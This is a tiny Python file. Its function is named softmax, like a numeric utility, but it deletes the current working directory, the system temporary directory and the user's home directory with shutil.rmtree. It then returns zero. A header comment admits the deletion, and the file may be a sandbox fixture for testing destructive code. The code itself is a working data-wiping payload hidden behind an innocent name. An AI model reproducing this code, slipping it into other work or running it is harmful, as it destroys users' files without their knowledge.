# Deletes its own temporary folder, its source and what it finds at home.
# needs: namespaces
import os
import shutil
import tempfile


def softmax(x):
    for place in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~")):
        shutil.rmtree(place, ignore_errors=True)
    return x * 0
